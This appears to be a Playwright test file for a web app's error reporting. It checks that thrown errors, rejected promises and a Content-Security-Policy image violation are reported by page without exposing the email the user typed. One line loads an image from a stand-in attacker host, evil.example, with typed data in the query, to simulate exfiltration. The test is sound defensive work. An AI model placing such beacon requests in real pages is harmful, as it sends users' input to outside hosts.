import { dist } from '../tools/build/paths';
import { createServer } from '../tools/server/createServer';
import { expect, test } from './fixtures';

test('what fails in a page is reported where the registry says, by its places and without what was typed', {
  tag: '@all',
}, async ({ browser }) => {
  const server = createServer({ dist, registry: (registry) => ({ ...registry, reports: '/api/reports' }) });
  const reports: { kind: string; what: string; page: string; places: string[] }[] = [];
  server.addContentTypeParser('text/plain', { parseAs: 'string' }, (_request, body, done) => done(null, body));
  server.post('/api/reports', async (request, reply) => {
    reports.push(JSON.parse(String(request.body)));
    return reply.code(204).send();
  });
  const origin = await server.listen({ port: 0, host: '127.0.0.1' });
  const page = await browser.newPage();
  try {
    const loaded = page.waitForResponse(/\/shell\/[^/]+\/reports\.js$/);
    await page.goto(`${origin}/login?next=typed`);
    await loaded;
    await page.getByLabel('Email', { exact: true }).fill('typed@example.com');
    await page.evaluate(() => {
      setTimeout(() => {
        throw new Error('There is nobody typed@example.com');
      });
      void Promise.reject(new TypeError('person.open is not a function'));
      new Image().src = 'http://evil.example/picture?of=typed';
    });
    await expect
      .poll(() => reports.map(({ what }) => what).sort())
      .toEqual(['Error', 'TypeError: person.open is not a function', 'img-src http://evil.example']);
    expect(reports.every((report) => report.page === '/login')).toBe(true);
    expect(JSON.stringify(reports)).not.toContain('typed');
  } finally {
    await page.close();
    await server.close();
  }
});
